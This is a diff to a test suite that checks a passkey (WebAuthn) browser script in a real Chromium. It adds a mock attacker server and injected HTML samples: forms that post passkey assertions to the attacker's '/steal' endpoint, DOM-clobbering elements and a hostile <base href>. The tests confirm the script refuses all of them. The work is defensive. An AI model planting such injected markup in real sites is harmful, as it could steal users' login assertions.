@@ -1,13 +1,17 @@
 /**
  * The browser helper (`webauthn.js`, SPEC section 3) in a real Chromium with a CDP virtual authenticator.
  *
- * A small Express app serves the script and server-rendered pages holding the flow's nodes; its `/submit` handler
- * records each posted form and verifies the credential in it with @simplewebauthn/server (real verification).
+ * A small Express app serves the script (under the mount path `/auth`, as the router would be mounted) and
+ * server-rendered pages holding the flow's nodes in a form posting to `/auth/self-service/<flow>?flow=<case>`; that
+ * handler records each posted form and verifies the credential in it with @simplewebauthn/server (real verification).
+ * A second listener of the same app gives a second origin (a page loading the script cross-origin), and a third
+ * server plays the attacker's, recording whatever reaches it (HTML injected into a page must not get a ceremony's
+ * result there).
  *
  * Run: npx tsx --test test/browser/webauthn-script.test.ts   (needs /usr/bin/chromium)
  */
 import assert from 'node:assert/strict';
-import { createHash } from 'node:crypto';
+import { createHash, randomBytes } from 'node:crypto';
 import { existsSync } from 'node:fs';
 import type { AddressInfo } from 'node:net';
 import { after, before, describe, test } from 'node:test';
@@ -24,7 +28,8 @@ import { type Browser, type BrowserContext, type CDPSession, chromium, type Page
 import { scriptIntegrity, WEBAUTHN_SCRIPT } from '../../src/ui/webauthn-script.js';
 
 const CHROMIUM = '/usr/bin/chromium';
-const SCRIPT_PATH = '/.well-known/ory/webauthn.js';
+const MOUNT = '/auth';
+const SCRIPT_PATH = `${MOUNT}/.well-known/ory/webauthn.js`;
 const CSRF = 'csrf-token-value';
 const NONCE = 'abc';
 
@@ -57,6 +62,13 @@ const ceremonies = new Map<string, Ceremony>();
 const credentials = new Map<string, StoredCredential>();
 const submissions: Submission[] = [];
 let origin = '';
+/** A second origin for the same app (another port of localhost). */
+let origin2 = '';
+/** The attacker's server: every request it receives. */
+let evilOrigin = '';
+const evilHits: { method: string; url: string; body: Record<string, string> }[] = [];
+/** Posts that reached the app outside its flow actions. */
+const strayPosts: { url: string; body: Record<string, string> }[] = [];
 
 function esc(s: string): string {
   return s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
@@ -76,12 +88,22 @@ interface PageOptions {
   late?: boolean;
   /** Integrity attribute to use instead of the right one. */
   integrity?: string;
+  /** The form's action is absolute (`<origin>/auth/self-service/...`) instead of relative. */
+  abs?: boolean;
+  /** The script and the form's action are on the other origin (`xo=1`; with `rel=1` the action stays relative). */
+  xo?: boolean;
+  rel?: boolean;
+  /** Markup an attacker injected into the page (see `injection()`). */
+  inject?: string;
+  /** The script's response is delayed by this many ms. */
+  delay?: number;
 }
 
 function scriptTags(o: PageOptions): string {
   const nonce = o.csp ? ` nonce="${NONCE}"` : '';
   const integrity = o.integrity ?? scriptIntegrity();
-  const tag = `<script id="webauthn_script" src="${SCRIPT_PATH}" async crossorigin="anonymous" integrity="${esc(integrity)}" referrerpolicy="no-referrer" type="text/javascript"${nonce}></script>`;
+  const src = `${o.xo ? scriptOrigin(o) : ''}${SCRIPT_PATH}${o.delay ? `?delay=${o.delay}` : ''}`;
+  const tag = `<script id="webauthn_script" src="${esc(src)}" async crossorigin="anonymous" integrity="${esc(integrity)}" referrerpolicy="no-referrer" type="text/javascript"${nonce}></script>`;
   return o.twice ? tag + '\n' + tag.replace('id="webauthn_script"', 'id="webauthn_script_2"') : tag;
 }
 
@@ -91,9 +113,93 @@ function triggerButton(o: PageOptions, name: string, fn: string, label: string):
   return `<button type="button" name="${name}" value=""${data}${inline}><span class="icon">*</span> ${label}</button>`;
 }
 
-function htmlPage(o: PageOptions, title: string, formInner: string): string {
+/** The origin the script (and so the flow actions) is on: the other one of the two app origins when `xo`. */
+function scriptOrigin(o: PageOptions): string {
+  return o.xo ? origin : '';
+}
+
+/** The form's action: `/auth/self-service/<kind>?flow=<case id>`, relative unless `abs`/`xo` (without `rel`). */
+function actionOf(o: PageOptions, kind: Kind): string {
+  const path = `${MOUNT}/self-service/${kind}?flow=${encodeURIComponent(o.caseId)}`;
+  if (o.xo) return o.rel ? path : `${scriptOrigin(o)}${path}`;
+  return o.abs ? `${origin}${path}` : path;
+}
+
+/** An attacker's login form (a challenge of their own flow, unknown to this server), for `inject`. */
+function attackerForm(id: string, action: string, opts: { method?: string; onload?: boolean; submit?: boolean }) {
+  const challenge = JSON.stringify({
+    publicKey: { challenge: randomBytes(32).toString('base64url'), rpId: 'localhost', userVerification: 'preferred' },
+  });
+  const onload = opts.onload ? ' data-onloadtrigger="oryPasskeyLoginAutocompleteInit"' : '';
+  const button = opts.submit
+    ? `<button type="submit" data-onclicktrigger="oryPasskeyLogin">Sign in with passkey (${id})</button>`
+    : `<button type="button" name="passkey_login_trigger">Sign in with passkey (${id})</button>`;
+  return `<form id="${id}" action="${esc(action)}" method="${opts.method ?? 'POST'}">
+<input type="hidden" name="passkey_challenge" value="${esc(challenge)}">
+<input type="hidden" name="passkey_login"${onload}>
+${button}
+</form>`;
+}
+
+/**
+ * HTML an attacker injected into the page (no script runs: it is markup only), before and after the flow form:
+ * - `click`: forms posting the result elsewhere with their own triggers: another origin (the reviewer's `/steal`,
+ *   and this library's own path on another origin), this origin outside the mount path, the right action without a
+ *   flow parameter, the right action with method GET.
+ * - `autofill`: the reviewer's autofill variant, forms asking for conditional UI (one before, one after the real one).
+ * - `clobber`: named elements shadowing document.currentScript (pointing at the attacker's server) and the DOM
+ *   methods the script uses, and a form posting to the attacker's copy of this library's path.
+ * - `base`: a `<base href>` pointing at the attacker, after the script tag (whose src is relative), and a form with a
+ *   relative action, which the base turns into the attacker's.
+ */
+function injection(o: PageOptions): { before: string; after: string; late: string } {
+  const flow = `${MOUNT}/self-service/login?flow=attacker-flow`;
+  switch (o.inject) {
+    case 'click':
+      return {
+        before: [
+          attackerForm('evil-steal', `${evilOrigin}/steal`, {}),
+          attackerForm('evil-path', `${evilOrigin}${flow}`, { submit: true }),
+          attackerForm('evil-same-origin', `/steal?flow=x`, {}),
+        ].join('\n'),
+        after: [
+          attackerForm('evil-no-flow', `${MOUNT}/self-service/login`, {}),
+          attackerForm('evil-get', flow, { method: 'GET' }),
+        ].join('\n'),
+        late: '',
+      };
+    case 'autofill':
+      return {
+        before: attackerForm('evil-before', `${evilOrigin}${flow}`, { onload: true }),
+        after: attackerForm('evil-after', `${evilOrigin}/steal`, { onload: true }),
+        late: '',
+      };
+    case 'clobber':
+      return {
+        before: `<img name="currentScript" src="${evilOrigin}${SCRIPT_PATH}" alt="">
+<img name="getElementsByName" alt=""><img name="querySelectorAll" alt=""><img name="addEventListener" alt="">
+<img name="readyState" alt=""><img name="documentElement" alt=""><img name="getElementsByTagName" alt="">
+<img name="__expressPasskeysWebauthn" alt="">
+${attackerForm('evil-clobber', `${evilOrigin}${flow}`, { onload: true })}`,
+        after: '',
+        late: '',
+      };
+    case 'base':
+      return {
+        before: '',
+        after: '',
+        late: `<base href="${evilOrigin}/">
+${attackerForm('evil-base', flow, {})}`,
+      };
+    default:
+      return { before: '', after: '', late: '' };
+  }
+}
+
+function htmlPage(o: PageOptions, kind: Kind, title: string, formInner: string): string {
   const lib = o.lib ? `<input type="hidden" name="submit" value="shadow">` : '';
-  const form = `<form id="flow" method="POST" action="/submit?case=${encodeURIComponent(o.caseId)}">
+  const injected = injection(o);
+  const form = `<form id="flow" method="POST" action="${esc(actionOf(o, kind))}">
   <input type="hidden" name="csrf_token" value="${CSRF}">
   ${formInner}
   ${lib}
@@ -112,7 +218,7 @@ function htmlPage(o: PageOptions, title: string, formInner: string): string {
     document.getElementById('root').appendChild(document.getElementById('later').content.cloneNode(true));
   }, 100);
 </script>`
-    : form + libScript;
+    : injected.before + form + libScript + injected.after;
   const canary = o.csp
     ? `<script>window.__inlineRan = true;</script>
 <script nonce="${NONCE}">window.__nonceRan = true;</script>`
@@ -123,6 +229,7 @@ function htmlPage(o: PageOptions, title: string, formInner: string): string {
 ${canary}
 ${body}
 ${scriptTags(o)}
+${injected.late}
 </body></html>`;
 }
 
@@ -136,6 +243,11 @@ function caseOf(q: Record<string, unknown>): PageOptions {
     lib: s('lib') === '1',
     late: s('late') === '1',
     integrity: s('integrity'),
+    abs: s('abs') === '1',
+    xo: s('xo') === '1',
+    rel: s('rel') === '1',
+    inject: s('inject'),
+    delay: s('delay') ? Number(s('delay')) : undefined,
   };
 }
 
@@ -151,7 +263,11 @@ function send(res: express.Response, o: PageOptions, html: string): void {
 function createApp(): express.Express {
   const app = express();
 
-  app.get(SCRIPT_PATH, (_req, res) => {
+  app.get(SCRIPT_PATH, async (req, res) => {
+    const delay = Number(req.query['delay'] ?? 0);
+    if (delay > 0) await new Promise((r) => setTimeout(r, Math.min(delay, 2000)));
+    // Loadable cross-origin with SRI (crossorigin="anonymous"), as the router serves it.
+    res.set('Access-Control-Allow-Origin', '*');
     res.type('text/javascript; charset=utf-8').send(WEBAUTHN_SCRIPT);
   });
 
@@ -174,7 +290,7 @@ function createApp(): express.Express {
   <input type="hidden" name="passkey_register" value="">
   <input type="hidden" name="passkey_create_data" value="${esc(JSON.stringify(createData))}">
   ${triggerButton(o, 'passkey_register_trigger', 'oryPasskeyRegistration', 'Sign up with passkey')}`;
-    send(res, o, htmlPage(o, 'Sign up', inner));
+    send(res, o, htmlPage(o, 'registration', 'Sign up', inner));
   });
 
   // Settings: add a passkey to an existing identity (?user=<user id>&exclude=<credential id,...>).
@@ -196,7 +312,7 @@ function createApp(): express.Express {
     const inner = `<input type="hidden" name="passkey_settings_register" value="">
   <input type="hidden" name="passkey_create_data" value="${esc(JSON.stringify({ publicKey: options }))}">
   ${triggerButton(o, 'passkey_register_trigger', 'oryPasskeySettingsRegistration', 'Add passkey')}`;
-    send(res, o, htmlPage(o, 'Settings', inner));
+    send(res, o, htmlPage(o, 'settings', 'Settings', inner));
   });
 
   // Login (?cond=attr: passkey_login carries data-onloadtrigger; ?cond=autocomplete: only the identifier's
@@ -212,7 +328,7 @@ function createApp(): express.Express {
   <input type="hidden" name="passkey_login" value=""${onload}>
   <input type="hidden" name="passkey_challenge" value="${esc(JSON.stringify({ publicKey: options }))}">
   ${triggerButton(o, 'passkey_login_trigger', 'oryPasskeyLogin', 'Sign in with passkey')}`;
-    send(res, o, htmlPage(o, 'Sign in', inner));
+    send(res, o, htmlPage(o, 'login', 'Sign in', inner));
   });
 
   // A fresh login challenge, as a client-side UI gets it with a new flow.
@@ -222,9 +338,16 @@ function createApp(): express.Express {
     res.json({ publicKey: options });
   });
 
-  app.post('/submit', express.urlencoded({ extended: false }), async (req, res) => {
+  // Anything posted outside the flow actions (an injected form on this origin).
+  app.post('/steal', express.urlencoded({ extended: false }), (req, res) => {
+    strayPosts.push({ url: req.originalUrl, body: req.body as Record<string, string> });
+    res.type('html').send('<!doctype html><title>stray</title>');
+  });
+
+  // The flow actions: /auth/self-service/{registration,settings,login}?flow=<case id>.
+  app.post(`${MOUNT}/self-service/:kind`, express.urlencoded({ extended: false }), async (req, res) => {
     const body = req.body as Record<string, string>;
-    const sub: Submission = { caseId: String(req.query['case']), body, verified: false };
+    const sub: Submission = { caseId: String(req.query['flow']), body, verified: false };
     try {
       const field = (['passkey_register', 'passkey_settings_register', 'passkey_login'] as const).find(
         (f) => typeof body[f] === 'string' && body[f] !== '',
@@ -249,7 +372,7 @@ function createApp(): express.Express {
         const v = await verifyAuthenticationResponse({
           response,
           expectedChallenge: clientData.challenge,
-          expectedOrigin: origin,
+          expectedOrigin: [origin, origin2],
           expectedRPID: 'localhost',
           credential: stored.credential,
           requireUserVerification: true,
@@ -263,7 +386,7 @@ function createApp(): express.Express {
         const v = await verifyRegistrationResponse({
           response,
           expectedChallenge: clientData.challenge,
-          expectedOrigin: origin,
+          expectedOrigin: [origin, origin2],
           expectedRPID: 'localhost',
           requireUserVerification: true,
           supportedAlgorithmIDs: [-8, -7, -257],
@@ -348,6 +471,27 @@ interface Tab {
 let browser: Browser;
 let base = '';
 let server: ReturnType<express.Express['listen']>;
+let server2: ReturnType<express.Express['listen']>;
+let evilServer: ReturnType<express.Express['listen']>;
+
+async function listenOn(app: express.Express): Promise<{ s: ReturnType<express.Express['listen']>; url: string }> {
+  const s = app.listen(0, 'localhost');
+  await new Promise<void>((resolve, reject) => {
+    s.once('listening', resolve);
+    s.once('error', reject);
+  });
+  return { s, url: `http://localhost:${(s.address() as AddressInfo).port}` };
+}
+
+/** The attacker's server: records every request (a stolen assertion would arrive here). */
+function createEvilApp(): express.Express {
+  const app = express();
+  app.use(express.urlencoded({ extended: false }), (req, res) => {
+    evilHits.push({ method: req.method, url: req.originalUrl, body: (req.body ?? {}) as Record<string, string> });
+    res.status(404).type('text/plain').send('evil');
+  });
+  return app;
+}
 const tabs: Tab[] = [];
 
 async function openTab(opts: { noJsonHelpers?: boolean } = {}): Promise<Tab> {
@@ -390,6 +534,9 @@ function newCase(label: string): string {
   return `${label}-${caseCounter}`;
 }
 
+/** The page is the response of a post to a flow action. */
+const isFlowPost = (u: URL) => u.pathname.startsWith(`${MOUNT}/self-service/`);
+
 function submissionsOf(caseId: string): Submission[] {
   return submissions.filter((s) => s.caseId === caseId);
 }
@@ -405,8 +552,8 @@ async function clickAndSubmit(tab: Tab, path: string, caseId: string, before?: (
   if (before) await before();
   const t0 = Date.now();
   await Promise.all([
-    tab.page.waitForURL((u) => u.pathname === '/submit', { timeout: 5000 }),
-    tab.page.click('button[name$="_trigger"]'),
+    tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
+    tab.page.click('#flow button[name$="_trigger"]'),
   ]);
   clickToPost.push(Date.now() - t0);
   const subs = submissionsOf(caseId);
@@ -444,13 +591,10 @@ const skip = existsSync(CHROMIUM) ? false : `${CHROMIUM} is missing`;
 describe('webauthn.js in Chromium', { skip }, () => {
   before(async () => {
     const t0 = Date.now();
-    server = createApp().listen(0, 'localhost');
-    await new Promise<void>((resolve, reject) => {
-      server.once('listening', resolve);
-      server.once('error', reject);
-    });
-    const { port } = server.address() as AddressInfo;
-    origin = `http://localhost:${port}`;
+    const app = createApp();
+    ({ s: server, url: origin } = await listenOn(app));
+    ({ s: server2, url: origin2 } = await listenOn(app));
+    ({ s: evilServer, url: evilOrigin } = await listenOn(createEvilApp()));
     base = origin;
     browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: LAUNCH_ARGS });
     console.log(`# server + Chromium launch: ${Date.now() - t0} ms`);
@@ -465,6 +609,8 @@ describe('webauthn.js in Chromium', { skip }, () => {
     for (const t of tabs) await t.context.close().catch(() => {});
     await browser?.close();
     await new Promise((r) => server?.close(r));
+    await new Promise((r) => server2?.close(r));
+    await new Promise((r) => evilServer?.close(r));
   });
 
   test('the served bytes match scriptIntegrity(), and the browser enforces it', async () => {
@@ -544,11 +690,12 @@ describe('webauthn.js in Chromium', { skip }, () => {
     ['ES256', '-7,-8,-257'],
     ['EdDSA', '-8,-7,-257'],
   ] as const) {
-    test(`login with the button posts an assertion that verifies (${label} passkey)`, async () => {
+    test(`login with the button posts an assertion that verifies (${label} passkey, ${label === 'EdDSA' ? 'absolute' : 'relative'} action)`, async () => {
       const tab = await openTab();
       const { credentialId, userId } = await register(tab, algs);
       const caseId = newCase(`login-${label}`);
-      const sub = await clickAndSubmit(tab, `/login?case=${caseId}&cond=0`, caseId);
+      const abs = label === 'EdDSA' ? '&abs=1' : '';
+      const sub = await clickAndSubmit(tab, `/login?case=${caseId}&cond=0${abs}`, caseId);
       assertVerified(sub);
       assert.equal(sub.kind, 'login');
       assert.equal(sub.credentialId, credentialId);
@@ -590,7 +737,7 @@ document.addEventListener('securitypolicyviolation', (e) => {
     assert.equal(await tab.page.evaluate('window.__nonceRan'), true);
     await tab.page.fill('input[name="traits.email"]', 'csp@example.com');
     await Promise.all([
-      tab.page.waitForURL((u) => u.pathname === '/submit', { timeout: 5000 }),
+      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
       tab.page.click('button[name="passkey_register_trigger"]'),
     ]);
     const subs = submissionsOf(caseId);
@@ -683,7 +830,7 @@ document.addEventListener('securitypolicyviolation', (e) => {
       // The virtual authenticator answers a conditional request at once, so the page logs in by itself.
       await tab.page.goto(`${base}/login?case=${caseId}&cond=${cond}`);
       await waitFor(() => submissionsOf(caseId).length > 0, 'the conditional login post');
-      await tab.page.waitForURL((u) => u.pathname === '/submit', { timeout: 5000 });
+      await tab.page.waitForURL(isFlowPost, { timeout: 5000 });
       const subs = submissionsOf(caseId);
       assert.equal(subs.length, 1);
       assertVerified(subs[0]!);
@@ -727,7 +874,7 @@ document.addEventListener('securitypolicyviolation', (e) => {
       enabled: true,
     });
     await Promise.all([
-      tab.page.waitForURL((u) => u.pathname === '/submit', { timeout: 5000 }),
+      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
       tab.page.click('button[name="passkey_login_trigger"]'),
     ]);
     const subs = submissionsOf(caseId);
@@ -771,7 +918,7 @@ document.addEventListener('securitypolicyviolation', (e) => {
       enabled: true,
     });
     await Promise.all([
-      tab.page.waitForURL((u) => u.pathname === '/submit', { timeout: 5000 }),
+      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
       tab.page.click('button[name="passkey_login_trigger"]'),
     ]);
     const subs = submissionsOf(caseId);
@@ -814,7 +961,7 @@ document.addEventListener('securitypolicyviolation', (e) => {
     // The passkey is back: the same button on the same page now logs in.
     await tab.cdp.send('WebAuthn.addCredential', { authenticatorId: tab.authenticatorId, credential: saved[0]! });
     await Promise.all([
-      tab.page.waitForURL((u) => u.pathname === '/submit', { timeout: 5000 }),
+      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
       tab.page.click('button[name="passkey_login_trigger"]'),
     ]);
     assert.equal(submissionsOf(caseId).length, 1);
@@ -853,6 +1000,274 @@ document.addEventListener('securitypolicyviolation', (e) => {
     });
     assertVerified(sub);
     assert.equal(sub.alg, -8);
+    assert.deepEqual(tab.errors, []);
+  });
+
+  // ---- HTML injection: forms that do not post to this library's flow actions ---------------------------------------
+
+  /** Requests that reached the attacker's server with something in them (an <img> GET carries nothing). */
+  const evilPostsSince = (n: number) =>
+    evilHits.slice(n).filter((h) => h.method !== 'GET' || h.url.includes('passkey'));
+
+  async function setPresence(tab: Tab, enabled: boolean): Promise<void> {
+    await tab.cdp.send('WebAuthn.setAutomaticPresenceSimulation', { authenticatorId: tab.authenticatorId, enabled });
+  }
+
+  /** Clicks an injected trigger and waits for the script's warning about its form. */
+  async function clickIgnored(tab: Tab, selector: string): Promise<string> {
+    const warned = tab.page.waitForEvent('console', {
+      predicate: (m) => m.type() === 'warning' && m.text().includes(': ignor'),
+      timeout: 5000,
+    });
+    await tab.page.click(selector);
+    return (await warned).text();
+  }
+
+  test('click variant: triggers in injected forms posting elsewhere run no ceremony and post nothing; the flow form works', async () => {
+    const tab = await openTab();
+    const { credentialId } = await register(tab);
+    // Without presence the flow form's conditional request stays pending: the injected clicks must not abort it.
+    await setPresence(tab, false);
+    const caseId = newCase('inject-click');
+    const [hits, stray, callsBefore] = [evilHits.length, strayPosts.length, tab.calls.length];
+    await tab.page.goto(`${base}/login?case=${caseId}&cond=attr&inject=click`);
+    await loaded(tab);
+    await waitFor(() => tab.calls.length > callsBefore, 'the conditional request');
+    const url = tab.page.url();
+    const refused = {
+      'evil-steal': `${evilOrigin}/steal`,
+      'evil-path': `${evilOrigin}${MOUNT}/self-service/login?flow=attacker-flow`,
+      'evil-same-origin': `${origin}/steal?flow=x`,
+      'evil-no-flow': `${origin}${MOUNT}/self-service/login`,
+      'evil-get': `${origin}${MOUNT}/self-service/login?flow=attacker-flow`,
+    };
+    for (const [id, action] of Object.entries(refused)) {
+      const text = await clickIgnored(tab, `#${id} button`);
+      assert.ok(text.includes(`passkey login: ignoring a form posting to ${action}, `), text);
+      assert.ok(text.endsWith(`not to a flow action of ${origin}${MOUNT}`), text);
+    }
+    await tab.page.waitForTimeout(200);
+    assert.equal(tab.page.url(), url, 'no navigation (the submit-type trigger did not submit natively either)');
+    assert.deepEqual(
+      tab.calls.slice(callsBefore),
+      [{ op: 'get', mediation: 'conditional', phase: 'call' }],
+      'no ceremony for an injected form, and the pending conditional request was not aborted',
+    );
+    assert.deepEqual(
+      await tab.page.evaluate(
+        `[...document.querySelectorAll('form[id^="evil-"] input[name="passkey_login"]')].map((i) => i.value)`,
+      ),
+      ['', '', '', '', ''],
+    );
+    assert.deepEqual(evilPostsSince(hits), []);
+    assert.deepEqual(strayPosts.slice(stray), []);
+    assert.equal(submissionsOf(caseId).length, 0);
+
+    // The flow form on the same page: its button aborts the pending conditional request and posts a verified login.
+    await setPresence(tab, true);
+    await Promise.all([
+      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
+      tab.page.click('#flow button[name="passkey_login_trigger"]'),
+    ]);
+    const subs = submissionsOf(caseId);
+    assert.equal(subs.length, 1);
+    assertVerified(subs[0]!);
+    assert.equal(subs[0]!.credentialId, credentialId);
+    const mine = tab.calls.slice(callsBefore);
+    assert.deepEqual(
+      mine.filter((c) => c.mediation === 'conditional').map((c) => `${c.phase}:${c.error ?? ''}`),
+      ['call:', 'error:AbortError'],
+      'the flow form trigger aborted the pending conditional request',
+    );
+    assert.deepEqual(
+      mine.filter((c) => c.mediation === 'optional').map((c) => c.phase),
+      ['call', 'ok'],
+    );
+    assert.deepEqual(evilPostsSince(hits), []);
+    assert.deepEqual(strayPosts.slice(stray), []);
+    assert.deepEqual(tab.errors, []);
+  });
+
+  test('autofill variant: conditional UI runs for the flow form only, not for injected forms before or after it', async () => {
+    const tab = await openTab();
+    const { credentialId } = await register(tab);
+    const caseId = newCase('inject-autofill');
+    const [hits, callsBefore] = [evilHits.length, tab.calls.length];
+    // The virtual authenticator answers the pending conditional request at once, as a user picking the passkey in
+    // autofill would: whichever form it was started for gets the assertion.
+    await tab.page.goto(`${base}/login?case=${caseId}&cond=attr&inject=autofill`);
+    await waitFor(() => submissionsOf(caseId).length > 0, 'the conditional login post');
+    await tab.page.waitForURL(isFlowPost, { timeout: 5000 });
+    const subs = submissionsOf(caseId);
+    assert.equal(subs.length, 1);
+    // Verified against a challenge this server issued: the flow form's, not the attacker's.
+    assertVerified(subs[0]!);
+    assert.equal(subs[0]!.credentialId, credentialId);
+    assert.deepEqual(
+      tab.calls.slice(callsBefore).filter((c) => c.phase === 'call'),
+      [{ op: 'get', mediation: 'conditional', phase: 'call' }],
+      'one conditional request',
+    );
+    for (const action of [`${evilOrigin}${MOUNT}/self-service/login?flow=attacker-flow`, `${evilOrigin}/steal`]) {
+      assert.ok(
+        tab.warnings.some((w) => w.includes(`passkey autofill: ignoring a form posting to ${action}, `)),
+        `${action} ignored: ${tab.warnings.join(' | ')}`,
+      );
+    }
+    assert.deepEqual(evilPostsSince(hits), []);
+    assert.deepEqual(tab.errors, []);
+  });
+
+  test('named elements cannot clobber document.currentScript or the DOM methods the script uses', async () => {
+    const tab = await openTab();
+    const { credentialId } = await register(tab);
+    await setPresence(tab, false);
+    const caseId = newCase('inject-clobber');
+    const [hits, callsBefore] = [evilHits.length, tab.calls.length];
+    await tab.page.goto(`${base}/login?case=${caseId}&cond=attr&inject=clobber`);
+    await loaded(tab);
+    await waitFor(() => tab.calls.length > callsBefore, 'the conditional request');
+    // The clobbering is live: document.currentScript is the attacker's <img>, the methods are elements.
+    assert.deepEqual(
+      await tab.page.evaluate(
+        `[document.currentScript.tagName, document.currentScript.src, typeof document.getElementsByName, document.readyState.tagName, window.__expressPasskeysWebauthn]`,
+      ),
+      ['IMG', `${evilOrigin}${SCRIPT_PATH}`, 'object', 'IMG', true],
+    );
+    const text = await clickIgnored(tab, '#evil-clobber button');
+    assert.ok(text.includes(`ignoring a form posting to ${evilOrigin}${MOUNT}/self-service/login?flow=attacker-flow`));
+    assert.ok(
+      tab.warnings.some((w) =>
+        w.startsWith(`[webauthn.js] passkey autofill: ignoring a form posting to ${evilOrigin}`),
+      ),
+    );
+    await setPresence(tab, true);
+    await Promise.all([
+      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
+      tab.page.click('#flow button[name="passkey_login_trigger"]'),
+    ]);
+    assert.equal(submissionsOf(caseId).length, 1);
+    assertVerified(submissionsOf(caseId)[0]!);
+    assert.equal(submissionsOf(caseId)[0]!.credentialId, credentialId);
+    assert.deepEqual(
+      tab.calls
+        .slice(callsBefore)
+        .filter((c) => c.phase === 'call')
+        .map((c) => c.mediation),
+      ['conditional', 'optional'],
+    );
+    assert.deepEqual(evilPostsSince(hits), []);
+    assert.deepEqual(tab.errors, []);
+  });
+
+  test('called without an element (as Ory Elements does), the functions pick the flow form, not injected ones', async () => {
+    const tab = await openTab();
+    const { credentialId } = await register(tab);
+    const [hits, stray] = [evilHits.length, strayPosts.length];
+
+    // Autofill: the injected forms ask for it (and are ignored); the flow form does not, until the UI library asks.
+    const caseId = newCase('no-element-autofill');
+    const callsBefore = tab.calls.length;
+    await tab.page.goto(`${base}/login?case=${caseId}&cond=0&inject=autofill`);
+    await loaded(tab);
+    await tab.page.waitForTimeout(100);
+    assert.equal(tab.calls.length, callsBefore, 'no conditional request for the injected forms');
+    await tab.page.evaluate('void window.oryPasskeyLoginAutocompleteInit()');
+    await tab.page.waitForURL(isFlowPost, { timeout: 5000 });
+    assert.equal(submissionsOf(caseId).length, 1);
+    assertVerified(submissionsOf(caseId)[0]!);
+    assert.equal(submissionsOf(caseId)[0]!.credentialId, credentialId);
+
+    // The modal login, with injected forms before and after the flow form.
+    const caseId2 = newCase('no-element-login');
+    await tab.page.goto(`${base}/login?case=${caseId2}&cond=0&inject=click`);
+    await loaded(tab);
+    await Promise.all([
+      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
+      tab.page.evaluate('void window.__oryPasskeyLogin()'),
+    ]);
+    assert.equal(submissionsOf(caseId2).length, 1);
+    assertVerified(submissionsOf(caseId2)[0]!);
+
+    // Registration (the display name is read from the flow form).
+    const caseId3 = newCase('no-element-registration');
+    await tab.page.goto(`${base}/registration?case=${caseId3}&inject=click`);
+    await loaded(tab);
+    await tab.page.fill('input[name="traits.email"]', 'noel@example.com');
+    await Promise.all([
+      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
+      tab.page.evaluate('void window.oryPasskeyRegistration()'),
+    ]);
+    assert.equal(submissionsOf(caseId3).length, 1);
+    assertVerified(submissionsOf(caseId3)[0]!);
+    assert.equal(submissionsOf(caseId3)[0]!.body['traits.email'], 'noel@example.com');
+
+    assert.deepEqual(evilPostsSince(hits), []);
+    assert.deepEqual(strayPosts.slice(stray), []);
+    assert.deepEqual(tab.errors, []);
+  });
+
+  test('the script loaded from another origin than the page: the form must post to the script origin', async () => {
+    const tab = await openTab();
+    const { credentialId } = await register(tab);
+    const caseId = newCase('cross-origin');
+    await tab.page.goto(`${origin2}/login?case=${caseId}&cond=0&xo=1`);
+    await loaded(tab);
+    assert.equal(
+      await tab.page.evaluate('document.getElementById("flow").action'),
+      `${origin}${MOUNT}/self-service/login?flow=${caseId}`,
+    );
+    await Promise.all([
+      tab.page.waitForURL((u) => u.origin === origin && isFlowPost(u), { timeout: 5000 }),
+      tab.page.click('#flow button[name="passkey_login_trigger"]'),
+    ]);
+    const sub = submissionsOf(caseId)[0]!;
+    assertVerified(sub);
+    assert.equal(sub.credentialId, credentialId);
+    const clientData = decodeClientDataJSON(JSON.parse(sub.body['passkey_login']!).response.clientDataJSON);
+    assert.equal(clientData.origin, origin2, 'signed for the page origin');
+
+    // The same page with a relative action: it posts to the page's own origin, not the script's, so it is refused.
+    const caseId2 = newCase('cross-origin-relative');
+    const callsBefore = tab.calls.length;
+    await tab.page.goto(`${origin2}/login?case=${caseId2}&cond=0&xo=1&rel=1`);
+    await loaded(tab);
+    const text = await clickIgnored(tab, '#flow button[name="passkey_login_trigger"]');
+    assert.ok(
+      text.includes(`ignoring a form posting to ${origin2}${MOUNT}/self-service/login?flow=${caseId2}, `),
+      text,
+    );
+    assert.ok(text.endsWith(`not to a flow action of ${origin}${MOUNT}`), text);
+    await tab.page.waitForTimeout(100);
+    assert.equal(tab.calls.length, callsBefore);
+    assert.equal(submissionsOf(caseId2).length, 0);
+    assert.deepEqual(tab.errors, []);
+  });
+
+  test('a <base href> injected after the script tag cannot move where a relative script src says it came from', async () => {
+    const tab = await openTab();
+    await register(tab);
+    const caseId = newCase('inject-base');
+    const [hits, callsBefore] = [evilHits.length, tab.calls.length];
+    // The script's response is delayed, so it runs after the parser has seen the injected <base>.
+    await tab.page.goto(`${base}/login?case=${caseId}&cond=attr&inject=base&delay=300`);
+    await loaded(tab);
+    assert.deepEqual(
+      await tab.page.evaluate(`[document.baseURI, document.getElementById('webauthn_script').src.split('?')[0]]`),
+      [`${evilOrigin}/`, `${evilOrigin}${SCRIPT_PATH}`],
+      'the base is live: the relative src now resolves to the attacker',
+    );
+    assert.ok(
+      tab.warnings.some((w) => w.includes('passkeys are off')),
+      tab.warnings.join(' | '),
+    );
+    // The injected form's relative action resolves to the attacker's copy of the flow path: refused.
+    const text = await clickIgnored(tab, '#evil-base button');
+    assert.ok(text.includes('passkey login: ignored, passkeys are off'), text);
+    await tab.page.waitForTimeout(100);
+    assert.equal(tab.calls.length, callsBefore, 'no ceremony at all (nor conditional UI)');
+    assert.deepEqual(evilPostsSince(hits), []);
+    assert.equal(submissionsOf(caseId).length, 0);
     assert.deepEqual(tab.errors, []);
   });
 });
